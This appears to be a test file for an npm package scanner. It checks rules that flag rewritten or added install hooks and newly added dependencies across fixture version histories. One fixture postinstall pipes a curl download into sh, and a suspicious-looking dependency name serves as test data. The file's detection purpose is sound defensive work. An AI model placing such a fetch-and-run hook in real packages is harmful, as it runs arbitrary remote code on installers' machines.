/**
 * The facts of DenyIfInstallScriptChanged and DenyIfDependencyAdded (issue
 * 31 item 5) on fixture histories, read from the scanner's slices: a
 * rewritten postinstall, an added hook, a removed one (no change), another
 * script rewritten (no change); a new dependency, optional and peer
 * dependencies counted, devDependencies not; and the "previous version"
 * they compare with, the same by one pass each, by the walk and by the
 * sweep (a history published far out of order) as by the definition.
 */
import semver from 'semver'
import t from 'tap'
import { scanPackument } from '../../engine/packument/scanner.js'
import { VersionHistory } from '../../engine/packument/version-history.js'
import { utf8 } from './helpers.js'

type Manifest = Record<string, unknown>

/** A history: manifests in publish order, a day apart (a version in `untimed` has no time). */
function history(order: ReadonlyArray<readonly [string, Manifest]>, untimed: ReadonlySet<string> = new Set()): VersionHistory {
  const time: Record<string, string> = {}
  order.forEach(([v], k) => { if (!untimed.has(v)) time[v] = new Date(Date.UTC(2020, 0, 1 + k)).toISOString() })
  const versions = Object.fromEntries(order.map(([v, extra]) => [v, { name: 'p', version: v, ...extra }]))
  const index = scanPackument([utf8(JSON.stringify({ name: 'p', versions, time }))], { recordMembers: false, recordSlices: true })
  return new VersionHistory(index, { trust: false, installScripts: false, scriptChanges: true, dependencies: true })
}

t.test('install scripts: added or rewritten hooks change; removed hooks and other scripts do not', async (t) => {
  const h = history([
    ['1.0.0', { scripts: { test: 'tap', postinstall: 'node setup.js' } }],
    ['1.0.1', { scripts: { test: 'tap --bail', postinstall: 'node setup.js' } }],
    ['1.0.2', { scripts: { test: 'tap', postinstall: 'node setup.js && curl -s http://127.0.0.1:9/x | sh' } }],
    ['1.0.3', { scripts: { test: 'tap', postinstall: 'node setup.js', preinstall: 'node pre.js' } }],
    ['1.0.4', { scripts: { test: 'tap' } }],
    ['1.0.5', { scripts: { install: 'node-gyp rebuild', postinstall: '' } }],
    // The last of a repeated key counts, as JSON.parse keeps it.
    ['1.0.6', { scripts: { install: 'node-gyp rebuild' } }],
  ])
  t.equal(h.scriptChange('1.0.0'), undefined, 'a first version is not judged')
  t.equal(h.scriptChange('1.0.1'), undefined, 'another script rewritten: no change')
  t.same(h.scriptChange('1.0.2'), { since: '1.0.1', added: [], changed: ['postinstall'] }, 'a rewritten postinstall')
  t.same(h.scriptChange('1.0.3'), { since: '1.0.2', added: ['preinstall'], changed: ['postinstall'] }, 'a new preinstall, and the postinstall back to an older command')
  t.equal(h.scriptChange('1.0.4'), undefined, 'hooks removed run nothing new')
  t.same(h.scriptChange('1.0.5'), { since: '1.0.4', added: ['install'], changed: [] }, 'an empty hook is no hook')
  t.equal(h.scriptChange('1.0.6'), undefined)
})

t.test('a repeated scripts key counts by its last value', async (t) => {
  const doc = '{"name":"p","versions":{'
    + '"1.0.0":{"name":"p","version":"1.0.0","scripts":{"postinstall":"a"}},'
    + '"1.1.0":{"name":"p","version":"1.1.0","scripts":{"postinstall":"b"},"scripts":{"postinstall":"a"}},'
    + '"1.2.0":{"name":"p","version":"1.2.0","scripts":{"postinstall":"a","postinstall":"c"}}},'
    + '"time":{"1.0.0":"2020-01-01T00:00:00.000Z","1.1.0":"2020-01-02T00:00:00.000Z","1.2.0":"2020-01-03T00:00:00.000Z"}}'
  const index = scanPackument([utf8(doc)], { recordMembers: false, recordSlices: true })
  const h = new VersionHistory(index, { trust: false, installScripts: false, scriptChanges: true })
  t.equal(h.scriptChange('1.1.0'), undefined)
  t.same(h.scriptChange('1.2.0'), { since: '1.1.0', added: [], changed: ['postinstall'] })
})

t.test('dependencies: new names in dependencies, optional and peer dependencies; devDependencies never', async (t) => {
  const h = history([
    ['1.0.0', { dependencies: { a: '^1.0.0' } }],
    ['1.1.0', { dependencies: { a: '^1.1.0' }, devDependencies: { tap: '^18' } }],
    ['1.2.0', { dependencies: { a: '^1.1.0', 'plain-crypto-js': '^4.2.1' } }],
    ['1.3.0', { dependencies: { 'plain-crypto-js': '^4.2.1' }, optionalDependencies: { fsevents: '^2' } }],
    ['1.4.0', { dependencies: { 'plain-crypto-js': '^4.2.1', fsevents: '^2' }, peerDependencies: { react: '*' } }],
    ['1.5.0', { dependencies: {} }],
  ])
  t.equal(h.dependencyAddition('1.0.0'), undefined, 'a first version is not judged')
  t.equal(h.dependencyAddition('1.1.0'), undefined, 'a new range or a dev dependency adds nothing')
  t.same(h.dependencyAddition('1.2.0'), { since: '1.1.0', names: ['plain-crypto-js'] }, 'a new dependency')
  t.same(h.dependencyAddition('1.3.0'), { since: '1.2.0', names: ['fsevents'] }, 'an optional dependency counts; a removed one does not')
  t.same(h.dependencyAddition('1.4.0'), { since: '1.3.0', names: ['react'] }, 'a peer dependency counts; moving a name between lists does not')
  t.equal(h.dependencyAddition('1.5.0'), undefined)
})

t.test('a backport is compared with the greatest lower version published before it', async (t) => {
  const h = history([
    ['1.0.0', { dependencies: { a: '1' }, scripts: { postinstall: 'one' } }],
    ['2.0.0', { dependencies: { a: '1', b: '1' }, scripts: { postinstall: 'two' } }],
    ['1.0.1', { dependencies: { a: '1', c: '1' }, scripts: { postinstall: 'one' } }],
    ['2.0.1', { dependencies: { a: '1', b: '1' }, scripts: { postinstall: 'two' } }],
  ])
  t.same(h.dependencyAddition('1.0.1'), { since: '1.0.0', names: ['c'] }, 'compared with 1.0.0, not 2.0.0')
  t.equal(h.scriptChange('1.0.1'), undefined, 'its postinstall is 1.0.0\'s')
  t.equal(h.previousOf('2.0.1'), '2.0.0', '2.0.1 follows 2.0.0, not the later 1.0.1')
  t.equal(h.dependencyAddition('2.0.1'), undefined)
})

t.test('a version without a publish time is compared with the greatest lower version of any time', async (t) => {
  const h = history([
    ['1.0.0', { dependencies: { a: '1' } }],
    ['1.1.0', { dependencies: { a: '1' } }],
    ['1.0.5', { dependencies: { a: '1', x: '1' } }],
  ], new Set(['1.0.5']))
  t.same(h.dependencyAddition('1.0.5'), { since: '1.0.0', names: ['x'] })
})

/** The definition, by brute force with semver itself. */
function expected(order: readonly string[], untimed: ReadonlySet<string>, version: string): string | undefined {
  const at = order.indexOf(version)
  const earlier = order.filter((v, k) => v !== version && (untimed.has(version) ? true : !untimed.has(v) && k < at) && semver.lt(v, version))
  return earlier.sort(semver.compare).at(-1)
}

t.test('previousOf: one pass each, the walk and the sweep give the definition', async (t) => {
  // Two lines with backports, prereleases and a few versions without a time.
  const order: string[] = []
  for (let k = 0; k < 30; k++) order.push(`1.${k}.0`, `2.${29 - k}.0`, `3.0.0-dev.${k}`)
  order.splice(40, 0, '3.0.0', '3.1.0-rc.1')
  const untimed = new Set(['1.7.0', '2.3.0', '3.0.0-dev.11'])
  // Sixteen asks are passes over the keys; more are answered by the sort and walk.
  const few = ['3.0.0', '3.1.0-rc.1', '3.0.0-dev.20', '3.0.0-dev.11', '2.3.0', '1.7.0', '2.29.0', '1.0.0', '1.29.0', '2.0.0', '3.0.0-dev.0']
  for (const asked of [few, order]) {
    const h = history(order.map((v) => [v, {}]), untimed)
    for (const v of asked) t.equal(h.previousOf(v), expected(order, untimed, v), `${asked.length} asks: ${v}`)
  }
  // Published in reverse: the walk runs over its budget and the sweep answers.
  const reverse = Array.from({ length: 200 }, (_, k) => `1.0.${199 - k}`)
  const h = history(reverse.map((v) => [v, {}]))
  for (const v of reverse) t.equal(h.previousOf(v), expected(reverse, new Set(), v), `reverse: ${v}`)
  t.equal(h.previousOf('9.9.9'), undefined, 'a version not in the history has none')
})
